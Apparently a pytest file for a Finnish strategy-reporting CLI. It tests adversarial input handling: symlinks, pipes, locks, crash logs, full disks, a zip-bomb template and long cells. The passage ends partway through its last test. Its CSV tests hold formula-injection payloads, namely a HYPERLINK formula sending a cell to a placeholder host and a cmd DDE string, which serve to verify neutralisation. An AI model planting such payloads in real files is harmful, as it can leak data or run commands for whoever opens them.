"""Faults an adversary would try (issue 13): odd names, links, guards, locks, interruptions.

Each test reproduces one way a run used to stop, overwrite something or answer misleadingly,
and asserts what a coordinator sees now: a finding, or one Finnish sentence with exit code 2.
"""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest
from builders import fill_template
from click.testing import CliRunner, Result

from kemireport.cli import cli
from kemireport.core.period import Period
from kemireport.core.settings import Settings
from kemireport.strategy import Strategy
from kemireport.templates.contract import INDICATOR_SHEET
from kemireport.templates.workbook import template_filenames, write_templates

MINI = Path(__file__).parent / "data" / "mini-strategia.yaml"
PERIOD = "2025-H1"
DONE = {"Tila": "Toteutunut", "Toteuma": "Tehtiin suunnitellusti."}
POSIX = pytest.mark.skipif(sys.platform == "win32", reason="POSIX file system features")


def workfolder(root: Path, strategy: Strategy, period: str = PERIOD,
               answers: Mapping[str, Mapping[str, Mapping[str, object]]] | None = None) -> Path:
    """A working folder with every department's filled return in ``input/<period>/``."""
    the_period = Period.parse(period)
    write_templates(strategy, the_period, root / "templates", settings=Settings(root=root))
    folder = root / "input" / period
    folder.mkdir(parents=True, exist_ok=True)
    for code, name in template_filenames(the_period, strategy.departments).items():
        filled = {a.id: dict(DONE) for a in strategy.actions_for(code)}
        for action_id, values in (answers or {}).get(code, {}).items():
            filled[action_id] = {**filled[action_id], **values}
        fill_template(root / "templates" / period / name, filled, folder / name)
    return folder


def run_cli(*args: str) -> Result:
    return CliRunner().invoke(cli, ["--strategy", str(MINI), *args])


def digests(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


# -- 1. file names that are not UTF-8 --------------------------------------------------------------


@pytest.mark.skipif(not sys.platform.startswith("linux"),
                    reason="only Linux file systems allow names that are not UTF-8")
def test_a_file_name_that_is_not_utf8_is_shown_stored_and_printed(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    folder = workfolder(tmp_path, mini_strategy)
    (Path(os.fsdecode(bytes(folder) + b"/bad\xe4.txt"))).write_bytes(b"x")
    (Path(os.fsdecode(bytes(folder) + b"/huono\xff\n.xlsx"))).write_bytes(b"x")

    result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 1, result.output  # the broken .xlsx is an error finding
    assert "bad\\xe4.txt" in result.output
    assert "huono\\xff\\x0a.xlsx" in result.output
    with sqlite3.connect(tmp_path / "output" / "kemireport.sqlite") as db:
        files = {row[0] for row in db.execute("SELECT file FROM files")}
    assert {"bad\\xe4.txt", "huono\\xff\\x0a.xlsx"} <= files

    checked = CliRunner().invoke(cli, ["--strategy", str(MINI), "validate", "--period", PERIOD,
                                       "--format", "json"])
    report = json.loads(checked.stdout_bytes.decode("utf-8"))  # strict: valid UTF-8
    codes = {f["file"]: f["code"] for f in report["findings"] if f["file"]}
    assert codes["bad\\xe4.txt"] == "file-ignored"
    assert codes["huono\\xff\\x0a.xlsx"] == "file-unreadable"


# -- 13. links and special files -------------------------------------------------------------------


@POSIX
def test_links_pipes_and_devices_each_get_one_finding_and_nothing_outside_is_read(
        tmp_path: Path, mini_strategy: Strategy) -> None:
    from kemireport.reading.reader import read_returns

    folder = workfolder(tmp_path, mini_strategy)
    outside = tmp_path / "salainen.xlsx"
    outside.write_bytes((next(folder.glob("*.xlsx"))).read_bytes())
    (folder / "linkki.xlsx").symlink_to(outside)
    (folder / "roikkuva.xlsx").symlink_to(tmp_path / "ei-ole.xlsx")
    (folder / "nolla.xlsx").symlink_to("/dev/zero")
    (folder / "kansio").symlink_to(tmp_path / "templates")
    (folder / "muistio.txt").symlink_to(outside)
    os.mkfifo(folder / "putki.xlsx")
    before = digests(tmp_path)

    outcomes = {o.file: o for o in read_returns(folder)}
    codes = {name: o.finding.code if o.finding else None for name, o in outcomes.items()}
    assert {k: v for k, v in codes.items() if v is not None} == {
        "linkki.xlsx": "file-unreadable",
        "roikkuva.xlsx": "file-unreadable",
        "nolla.xlsx": "file-unreadable",
        "putki.xlsx": "file-unreadable",
        "kansio": "file-ignored",
        "muistio.txt": "file-ignored",
    }
    assert "linkki" in outcomes["linkki.xlsx"].finding.message  # type: ignore[union-attr]
    assert "putki" in outcomes["putki.xlsx"].finding.message  # type: ignore[union-attr]
    assert "kohdetta ei ole" in outcomes["roikkuva.xlsx"].finding.message  # type: ignore[union-attr]
    assert sum(o.workbook is not None for o in outcomes.values()) == len(mini_strategy.departments)
    assert digests(tmp_path) == before


# -- 3. every guard before anything is written -----------------------------------------------------


def test_a_return_named_like_a_report_is_never_replaced(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    folder = workfolder(tmp_path, mini_strategy)
    first = sorted(folder.glob("*.xlsx"))[0]
    first.rename(folder / f"{PERIOD}_strategiaseuranta.xlsx")
    before = digests(tmp_path / "input")

    for output in ("input", "input/2025-H1/..", "input/2025-H1"):
        result = run_cli("report", "--period", PERIOD, "-o", output)
        assert result.exit_code == 2, result.output
        assert "palautuskansio" in result.output and "mitään ei kirjoitettu" in result.output
    assert digests(tmp_path / "input") == before
    assert not (tmp_path / "input" / "kemireport.sqlite").exists()
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [f"{PERIOD}_strategiaseuranta.xlsx", *(p.name for p in sorted(folder.glob("*.xlsx"))
                                              if p.name != f"{PERIOD}_strategiaseuranta.xlsx")])


# -- 4. crash logging ------------------------------------------------------------------------------


def _crash(monkeypatch: pytest.MonkeyPatch) -> None:
    import kemireport.templates.workbook

    def broken(*args: object, **kwargs: object) -> list[Path]:
        raise RuntimeError("ohjelmointivirhe")

    monkeypatch.setattr(kemireport.templates.workbook, "write_templates", broken)


def test_internal_errors_log_to_the_users_own_folder_under_unique_names(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import platformdirs

    _crash(monkeypatch)
    monkeypatch.chdir(tmp_path)
    logs = tmp_path / "oma" / "lokit"
    monkeypatch.setattr(platformdirs, "user_log_dir", lambda *a, **k: str(logs))
    outputs = [CliRunner().invoke(cli, ["templates", "--period", PERIOD]) for _ in range(3)]
    assert {r.exit_code for r in outputs} == {3}
    written = sorted(logs.glob("virhe-*.log"))
    assert len(written) == 3  # one each, even within the same second
    assert all(str(log) in r.output for log, r in zip(
        sorted(written, key=lambda p: next(i for i, r in enumerate(outputs) if str(p) in r.output)),
        outputs, strict=True))


def test_an_unusable_log_folder_still_gives_one_finnish_sentence_and_exit_3(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    import platformdirs

    _crash(monkeypatch)
    monkeypatch.chdir(tmp_path)
    blocked = tmp_path / "tiedosto"
    blocked.write_text("ei kansio", encoding="utf-8")
    # Both the user's log folder and the fallback in the temp folder are files, not folders.
    monkeypatch.setattr(platformdirs, "user_log_dir", lambda *a, **k: str(blocked / "lokit"))
    monkeypatch.setattr(tempfile, "gettempdir", lambda: str(blocked))
    result = CliRunner().invoke(cli, ["templates", "--period", PERIOD])
    assert result.exit_code == 3
    assert "Traceback" not in result.output
    assert result.output.strip() == (
        "Sisäinen virhe: kemireport kaatui odottamatta, eikä vika ole syötteessäsi. Lokia ei "
        "voitu kirjoittaa; kerro ylläpidolle komento, jonka ajoit.")


def test_the_fallback_log_folder_is_the_users_own(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    import platformdirs

    _crash(monkeypatch)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "kemireport-lokit").mkdir()  # the old shared folder, e.g. another user's
    blocked = tmp_path / "tiedosto"
    blocked.write_text("ei kansio", encoding="utf-8")
    monkeypatch.setattr(platformdirs, "user_log_dir", lambda *a, **k: str(blocked / "lokit"))
    monkeypatch.setattr(tempfile, "gettempdir", lambda: str(tmp_path))
    result = CliRunner().invoke(cli, ["templates", "--period", PERIOD])
    assert result.exit_code == 3
    logs = list(tmp_path.glob("kemireport-lokit-*/virhe-*.log"))
    assert len(logs) == 1 and str(logs[0]) in result.output
    assert not list((tmp_path / "kemireport-lokit").iterdir())


# -- 6. faults of the machine ----------------------------------------------------------------------


def test_an_output_that_is_not_a_folder_is_named_and_nothing_is_written(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    (tmp_path / "tiedosto").write_text("x", encoding="utf-8")
    for output in ("tiedosto", os.devnull) if sys.platform != "win32" else ("tiedosto",):
        result = run_cli("report", "--period", PERIOD, "-o", output)
        assert result.exit_code == 2, result.output
        assert result.output.startswith(f"Virhe: Raporttien kansio {output} on tiedosto tai "
                                        "laite eikä kansio."), result.output
        assert "Sisäinen virhe" not in result.output
    assert (tmp_path / "tiedosto").read_text(encoding="utf-8") == "x"


def test_a_read_only_output_folder_is_named_with_what_to_do(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno
    import tempfile

    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    (tmp_path / "output").mkdir()

    def refused(*args: object, **kwargs: object) -> tuple[int, str]:
        raise PermissionError(errno.EACCES, "Permission denied", str(kwargs.get("dir")))

    monkeypatch.setattr(tempfile, "mkstemp", refused)  # what chmod 555 does to anyone but root
    result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 2, result.output
    assert result.output == (
        "Virhe: Raporttien kansiota output ei voi käyttää: ei ole kirjoitus- tai lukuoikeutta. "
        "Tarkista kansion oikeudet tai valitse kansio, johon sinulla on oikeus kirjoittaa.\n")
    assert list((tmp_path / "output").iterdir()) == []


def test_a_full_disk_while_writing_leaves_the_history_and_earlier_reports_whole(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    import kemireport.outputs.csv_export
    from kemireport.core.atomic import atomic_path

    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    assert run_cli("report", "--period", PERIOD).exit_code == 0
    out = tmp_path / "output"
    before = digests(out)

    def full(strategy: object, facts: object, path: Path) -> Path:
        with atomic_path(path) as tmp:
            tmp.write_bytes(b"alku")
            raise OSError(errno.ENOSPC, "No space left on device", str(tmp))

    monkeypatch.setattr(kemireport.outputs.csv_export, "write_csv", full)
    csv_name = f"{PERIOD}/{PERIOD}_toimenpiteet.csv"
    result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 2, result.output
    assert result.output == (
        f"Virhe: Tiedostoa output/{csv_name} ei voi käyttää: levy on täynnä. Vapauta levytilaa "
        "tai valitse toinen kansio ja aja komento uudelleen. Aiempi tiedosto (jos sellainen "
        "oli) on ennallaan.\n")
    after = digests(out)
    assert after[csv_name] == before[csv_name]
    assert set(after) == set(before)  # no temporary file left behind


def test_a_read_only_or_broken_history_is_named_and_left_as_it_was(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    assert run_cli("report", "--period", PERIOD).exit_code == 0
    database = tmp_path / "output" / "kemireport.sqlite"
    before = digests(tmp_path / "output")

    real_access = os.access
    # What chmod 444 does to anyone but root (the tests may run as root).
    monkeypatch.setattr(os, "access", lambda path, mode, **k: (
        Path(path).resolve() != database.resolve() and real_access(path, mode)))
    result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 2, result.output
    assert result.output.startswith(
        f"Virhe: Historiatietokantaan {Path('output') / 'kemireport.sqlite'} ei voi kirjoittaa")
    assert digests(tmp_path / "output") == before
    monkeypatch.setattr(os, "access", real_access)

    database.write_bytes(database.read_bytes()[:3000])  # cut short: corrupt
    broken = digests(tmp_path / "output")
    result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 2, result.output
    assert "vioittunut" in result.output and "Sisäinen virhe" not in result.output
    assert digests(tmp_path / "output") == broken


# -- 7. two runs at once ---------------------------------------------------------------------------


def test_a_second_run_waits_then_names_the_run_holding_the_output_folder(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    import kemireport.cycle.guard as guard

    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    out = tmp_path / "output"
    out.mkdir()
    monkeypatch.setattr(guard, "LOCK_WAIT", 0.2)
    monkeypatch.setattr(sys, "argv", ["kemireport", "report", "--period", PERIOD])
    with guard.output_lock(out):
        result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 2, result.output
    assert result.output.startswith(
        "Virhe: Raporttien kansiota output käyttää toinen kemireport-ajo (kone ")
    assert f"prosessi {os.getpid()}, aloitettu " in result.output
    assert "komento: kemireport report --period 2025-H1)" in result.output
    assert not (out / PERIOD).exists() and not (out / "kemireport.sqlite").exists()
    # Released: the next run goes through.
    assert run_cli("report", "--period", PERIOD).exit_code == 0


# -- 8. the Word template is checked first ---------------------------------------------------------


def test_a_bad_word_template_stops_the_run_before_anything_is_written(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    import hostile

    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    (tmp_path / "teksti.docx").write_text("ei Word", encoding="utf-8")
    hostile.zip_bomb(tmp_path / "pommi.docx")
    cases = {
        "teksti.docx": "Virhe: Word-pohja teksti.docx ei ole Word-asiakirja tai -pohja",
        "pommi.docx": "Virhe: Word-pohjaa pommi.docx ei käytetä, koska se ei ole ehjä "
                      "Word-tiedosto (pakkaus purkautuu",
        "puuttuu.docx": "Virhe: Word-pohjaa puuttuu.docx ei voi lukea: tiedostoa ei ole.",
    }
    for name, start in cases.items():
        result = run_cli("report", "--period", PERIOD, "--word-template", name)
        assert result.exit_code == 2, result.output
        assert result.output.startswith(start), result.output
        assert "BytesIO" not in result.output and "0x" not in result.output
        assert not (tmp_path / "output").exists(), name


# -- 5. the strategy file is read within limits ----------------------------------------------------


def test_a_strategy_that_is_a_device_a_pipe_or_huge_is_refused_in_finnish(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import kemireport.strategy.loader as loader
    from kemireport.errors import StrategyError
    from kemireport.strategy import load_strategy

    big = tmp_path / "iso.yaml"
    big.write_bytes(b"# " + b"a" * 2000 + b"\n")
    monkeypatch.setattr(loader, "MAX_STRATEGY_BYTES", 1000)
    with pytest.raises(StrategyError, match="tiedosto on liian suuri"):
        load_strategy(big)
    monkeypatch.undo()
    with pytest.raises(StrategyError, match="tämä on kansio"):
        load_strategy(tmp_path)
    if sys.platform != "win32":
        with pytest.raises(StrategyError, match="ei ole tavallinen tiedosto"):
            load_strategy(os.devnull)
        os.mkfifo(tmp_path / "putki.yaml")  # opening it must not wait for a writer
        with pytest.raises(StrategyError, match="ei ole tavallinen tiedosto"):
            load_strategy(tmp_path / "putki.yaml")


# -- 10. leftovers and interruptions ---------------------------------------------------------------


def test_temporaries_of_killed_runs_are_removed_and_nothing_else(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    reports = tmp_path / "output" / PERIOD
    reports.mkdir(parents=True)
    ours = [reports / f".{PERIOD}_strategiaseuranta.k2j_9xq0.tmp.xlsx",
            reports / f".{PERIOD}_strategiaseuranta.0a1b2c3d.tmp.docx",
            tmp_path / "output" / ".kemireport.abcdefgh.tmp.sqlite"]
    others = [reports / "muistiinpanot.tmp.xlsx", reports / ".oma.tmp",
              reports / f".{PERIOD}_strategiaseuranta.liianpitka.tmp.xlsx"]
    for path in ours + others:
        path.write_bytes(b"kesken")
    assert run_cli("report", "--period", PERIOD).exit_code == 0
    assert [p for p in ours if p.exists()] == []
    assert [p for p in others if not p.exists()] == []


def test_ctrl_c_exits_130_with_one_finnish_line(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    import kemireport.cycle.half_year

    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(kemireport.cycle.half_year, "build_reports", interrupted)
    result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 130
    assert result.output.strip() == ("Keskeytetty (Ctrl+C). Valmiit tiedostot ja historia ovat "
                                     "ehjiä; aja komento uudelleen, kun haluat.")


_ORPHAN_SCRIPT = """
import concurrent.futures as cf, os, sys, time
from kemireport.reading import reader

def pid(_):
    return os.getpid()

def park(_):
    time.sleep(120)

if __name__ == "__main__":
    pool = cf.ProcessPoolExecutor(2, initializer=reader._init_worker, initargs=(2**31,))
    pids = set(pool.map(pid, range(8)))
    for _ in range(2):
        pool.submit(park, 0)
    print(" ".join(map(str, sorted(pids))), flush=True)
    time.sleep(120)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="kill -9 and /proc are POSIX")
def test_reader_workers_end_when_their_parent_is_killed(tmp_path: Path) -> None:
    import signal
    import subprocess
    import time

    script = tmp_path / "orpo.py"
    script.write_text(_ORPHAN_SCRIPT, encoding="utf-8")
    parent = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True)
    assert parent.stdout is not None
    workers = [int(p) for p in parent.stdout.readline().split()]
    assert workers and all(_alive(p) for p in workers)
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    deadline = time.monotonic() + 20  # a bound, not a measurement: they go within a second
    while any(_alive(p) for p in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert [p for p in workers if _alive(p)] == []


def _alive(pid: int) -> bool:
    """A process that exists and is not a zombie waiting to be reaped."""
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] != "Z"
    except FileNotFoundError:
        return False
    except OSError:  # no /proc (macOS): ask the kernel
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return False
        return True


# -- 12. settings ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("content", "message"), [
    (b"\xef\xbb\xbfoutput_dir = \"raportit\"\n", None),  # Notepad's byte order mark
    (b"output_dir = raportit\n",
     "Virhe: Asetustiedosto kemireport.toml on rikki rivillä 1, sarakkeessa 14: arvo ei kelpaa: "
     "kirjoita teksti lainausmerkkeihin, esim. output_dir = \"raportit\". Korjaa kohta."),
    (b"output_dir \"raportit\"\n",
     "Virhe: Asetustiedosto kemireport.toml on rikki rivillä 1, sarakkeessa 12: avaimen jälkeen "
     "puuttuu yhtäsuuruusmerkki (=). Korjaa kohta. Jokainen asetus on omalla rivillään muodossa "
     "avain = \"arvo\", esim. output_dir = \"raportit\"."),
    (b"output_dir = \"\"\n",
     "Virhe: Asetuksen 'output_dir' arvo on tyhjä (kemireport.toml). Kirjoita arvo "
     "lainausmerkkeihin, esim. output_dir = \"output\", tai poista rivi, jolloin käytetään "
     "oletusta."),
])
def test_settings_files_as_people_write_them(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: bytes,
        message: str | None) -> None:
    from kemireport.core.settings import load_settings
    from kemireport.errors import ConfigError

    (tmp_path / "kemireport.toml").write_bytes(content)
    monkeypatch.chdir(tmp_path)
    if message is None:
        assert load_settings().output_dir == Path("raportit")
        return
    with pytest.raises(ConfigError) as caught:
        load_settings()
    assert f"Virhe: {caught.value}" == message


def test_a_folder_named_like_the_settings_and_an_empty_period_are_errors(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    workfolder(tmp_path, mini_strategy)
    for args in (["report", "--period", ""], ["validate", "--period", " "],
                 ["templates", "--period", PERIOD, "--from", ""]):
        result = run_cli(*args)
        assert result.exit_code == 2, (args, result.output)
        assert "Seurantakausi on tyhjä" in result.output
    (tmp_path / "kemireport.toml").mkdir()
    result = run_cli("validate")
    assert result.exit_code == 2
    assert "Asetustiedoston kemireport.toml paikalla on kansio" in result.output


# -- 2. formulas in the CSV ------------------------------------------------------------------------

HOSTILE_TOTEUMA = ('=HYPERLINK("http://example.invalid/?q="&A1,"Lue lisää")',
                   "=cmd|' /C calc'!A0", "Tavallinen teksti = ei kaava.", "\t=1+1",
                   "@SUM(1+1)", "\r=2+2", "+358 40 123", "-20 % päästöistä")


def _hostile_csv(strategy: Strategy, path: Path) -> tuple[Path, list[str]]:
    """The CSV of returns whose Toteuma texts are formula injections, in strategy order."""
    from builders_report import department_return, validation

    from kemireport.core.findings import Verdict
    from kemireport.history.consolidate import consolidate
    from kemireport.outputs.csv_export import write_csv
    from kemireport.outputs.facts import gather

    ids = [a.id for a in strategy.actions]
    texts = [HOSTILE_TOTEUMA[i % len(HOSTILE_TOTEUMA)] for i in range(len(ids))]
    answers = {i: {"Tila": "Toteutunut", "Toteuma": t} for i, t in zip(ids, texts, strict=True)}
    checked = validation(strategy, PERIOD, [department_return(strategy, d.code, PERIOD,
                                                              answers=answers)
                                            for d in strategy.departments])
    consolidation = consolidate(strategy, checked)
    facts = gather(strategy, consolidation, Verdict(consolidation.period))
    order = {r.action_id: r.toteuma for r in facts.records}
    return write_csv(strategy, facts, path), [str(order[i]) for i in ids]


@pytest.mark.needs("soffice")
def test_the_csv_opened_in_libreoffice_runs_no_formula(
        tmp_path: Path, mini_strategy: Strategy) -> None:
    import openpyxl
    from office import convert

    path, stored = _hostile_csv(mini_strategy, tmp_path / "toimenpiteet.csv")
    # The history (and the Excel report) keep the exact text, the tab included.
    assert stored == [HOSTILE_TOTEUMA[i % len(HOSTILE_TOTEUMA)] for i in range(len(stored))]
    # Semicolon, double quote, UTF-8, from line 1, and "evaluate formulas" switched on: how a
    # spreadsheet opening the file would run whatever looks like a formula.
    opened = convert(path, tmp_path / "lo", "xlsx",
                     infilter="CSV:59,34,76,1,,1033,false,false,false,false,false,-1,true")
    sheet = openpyxl.load_workbook(opened).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    headers = [c.value for c in sheet[1]]
    column = headers.index("Toteuma")
    shown = {row[column].value for row in sheet.iter_rows(min_row=2)}
    assert '\'=HYPERLINK("http://example.invalid/?q="&A1,"Lue lisää")' in shown
    assert "'=cmd|' /C calc'!A0" in shown and "'@SUM(1+1)" in shown
    assert "Tavallinen teksti = ei kaava." in shown


@pytest.mark.needs("soffice")
def test_the_csv_without_neutralising_would_run_formulas_in_libreoffice(
        tmp_path: Path) -> None:
    """The same import settings do run a formula: the test above can fail."""
    import openpyxl
    from office import convert

    raw = tmp_path / "raaka.csv"
    raw.write_bytes("\ufeffToteuma\r\n=1+1\r\n".encode())
    opened = convert(raw, tmp_path / "lo", "xlsx",
                     infilter="CSV:59,34,76,1,,1033,false,false,false,false,false,-1,true")
    assert openpyxl.load_workbook(opened).active["A2"].data_type == "f"


# -- 9. long text ----------------------------------------------------------------------------------


def _replace_in_package(path: Path, old: str, new: str) -> None:
    import zipfile

    with zipfile.ZipFile(path) as source:
        parts = {info: source.read(info) for info in source.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in parts.items():
            target.writestr(info, data.replace(old.encode(), new.encode()))


def test_a_toteuma_longer_than_a_cell_is_kept_whole_marked_where_cut_and_warned(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    import csv
    import io
    import random

    import docx
    import openpyxl

    from kemireport.outputs.columns import TRUNCATED

    monkeypatch.chdir(tmp_path)
    words = ["toimenpide", "edistyi", "kevään", "aikana", "ja", "työpaja", "pidettiin"]
    chance = random.Random(7)
    long_text = " ".join(chance.choice(words) + str(chance.randrange(100))
                         for _ in range(5000)) + " LOPPU"
    assert len(long_text) > 40_000
    action = mini_strategy.actions_for("YMP")[0]
    folder = workfolder(tmp_path, mini_strategy,
                        answers={"YMP": {action.id: {"Toteuma": "PITKA-TEKSTI"}}})
    # openpyxl cuts a cell at 32,767 characters; LibreOffice and hand-made files do not.
    _replace_in_package(next(folder.glob("*Ympäristö*.xlsx")), "PITKA-TEKSTI", long_text)

    result = run_cli("report", "--period", PERIOD)
    assert result.exit_code == 0, result.output  # a warning, not an error
    assert "toteuma-too-long" in result.output, result.output
    checked = run_cli("validate", "--period", PERIOD, "--format", "json")
    [finding] = [f for f in json.loads(checked.output)["findings"]
                 if f["code"] == "toteuma-too-long"]
    assert (finding["severity"], finding["row_id"]) == ("warning", action.id)
    assert finding["cell"] and finding["cell"].startswith("G")
    assert f"{len(long_text):,}".replace(",", "\u00a0") in finding["message"]

    with sqlite3.connect(tmp_path / "output" / "kemireport.sqlite") as db:
        [(stored,)] = db.execute("SELECT toteuma FROM action_reports WHERE action_id = ?",
                                 (action.id,)).fetchall()
    assert stored == long_text
    files = tmp_path / "output" / PERIOD
    rows = list(csv.DictReader(io.StringIO(
        (files / f"{PERIOD}_toimenpiteet.csv").read_text(encoding="utf-8-sig"), newline=""),
        delimiter=";"))
    assert next(r["Toteuma"] for r in rows if r["Tunniste"] == action.id) == long_text
    sheet = openpyxl.load_workbook(files / f"{PERIOD}_strategiaseuranta.xlsx")["Toimenpiteet"]
    headers = [c.value for c in sheet[1]]
    cut = next(row[headers.index("Toteuma")].value for row in sheet.iter_rows(min_row=2)
               if row[headers.index("Tunniste")].value == action.id)
    assert len(cut) <= 32_767 and cut.endswith(TRUNCATED) and long_text.startswith(
        cut[:-len(TRUNCATED)])
    document = docx.Document(str(files / f"{PERIOD}_strategiaseuranta.docx"))
    texts = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert any(t.endswith(TRUNCATED) and long_text.startswith(t[:100]) for t in texts)


# -- 11. findings that say what a person did -------------------------------------------------------


def _edit_return(folder: Path, department_file: str, edit: object) -> None:
    import openpyxl

    path = next(folder.glob(f"*{department_file}*.xlsx"))
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        if sheet.title not in ("Ohjeet", "kemireport", INDICATOR_SHEET):  # goal sheets only
            edit(sheet)  # type: ignore[operator]
    book.save(path)


def _findings(*args: str) -> list[dict[str, str]]:
    result = run_cli("validate", "--period", PERIOD, "--format", "json", *args)
    findings: list[dict[str, str]] = json.loads(result.output)["findings"]
    # The period's own notes (no coordinator's overview) are not about the returns.
    return [f for f in findings if f["code"] != "overview-missing"]


def test_a_renamed_or_deleted_header_is_one_finding_at_its_cell(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    folder = workfolder(tmp_path, mini_strategy)

    def rename(sheet: object) -> None:
        sheet["G4"] = "Toteutuma"  # type: ignore[index]

    def delete(sheet: object) -> None:
        sheet["G4"] = "Toteutuma"  # type: ignore[index]
        sheet["H4"] = None  # type: ignore[index]  # SDG's header gone too: no certain place

    _edit_return(folder, "Ympäristö", rename)
    _edit_return(folder, "Hyvinvointi", delete)
    found = [(f["code"], f["department"], f["sheet"], f["cell"]) for f in _findings()]
    sheets = [g.name for g in mini_strategy.goals]
    assert sorted(f for f in found if f[1] == "YMP") == sorted(
        ("header-changed", "YMP", name, "G4") for name in sheets)
    assert sorted(f for f in found if f[1] == "HYV") == sorted(
        [("header-missing", "HYV", name, "A4") for name in sheets for _ in range(2)])
    messages = {f["message"] for f in _findings() if f["code"] != "header-missing"}
    assert messages == {"Sarakkeen otsikkoa on muutettu: solussa lukee nyt ”Toteutuma”, kun "
                        "siinä pitää lukea ”Toteuma”. Sarake luettiin paikkansa perusteella. "
                        "Palauta otsikoksi ”Toteuma”."}
    assert not any(code.startswith("toteuma") for code, *_ in found)


def test_a_header_row_pushed_down_is_read_and_reported_once(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    folder = workfolder(tmp_path, mini_strategy)

    def push(sheet: object) -> None:
        sheet.insert_rows(1, 12)  # type: ignore[attr-defined]

    _edit_return(folder, "Ympäristö", push)
    found = [(f["code"], f["sheet"], f["cell"]) for f in _findings()]
    assert sorted(found) == sorted(("header-moved", g.name, "A16") for g in mini_strategy.goals)


def test_row_missing_names_the_action_even_without_an_action_text(
        kemi_strategy: Strategy) -> None:
    from builders_report import department_return, validation

    checked = validation(kemi_strategy, PERIOD, [
        department_return(kemi_strategy, "PT", PERIOD, drop=("EK-PT-03",))])
    [missing] = [f for f in checked.verdict.findings
                 if f.code == "row-missing" and f.row_id == "EK-PT-03"]
    assert missing.message.startswith(
        "Toimenpiderivi EK-PT-03 (”Asiantuntijana elinvoimatoimialan suunnittelutyössä”) "
        "puuttuu välilehdeltä")
    assert "(””)" not in missing.message


# -- 14. quiet acceptances -------------------------------------------------------------------------


def _set_identity(path: Path, key: str, value: str | None) -> None:
    """Type over (or, with None, delete) one row of the hidden identity sheet."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    sheet = book["kemireport"]
    for row in sheet.iter_rows():
        if row[0].value == key:
            if value is None:
                sheet.delete_rows(row[0].row)
            else:
                row[1].value = value
            break
    book.save(path)


def test_an_edited_identity_is_caught_and_an_old_template_is_still_read(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    folder = workfolder(tmp_path, mini_strategy, period="2025-H2")
    # The 2025-H2 returns moved to 2025-H1 with the period typed over in the hidden sheet.
    edited = tmp_path / "input" / PERIOD
    edited.mkdir()
    ymp = next(folder.glob("*Ympäristö*.xlsx"))
    _set_identity(ymp, "kausi", PERIOD)
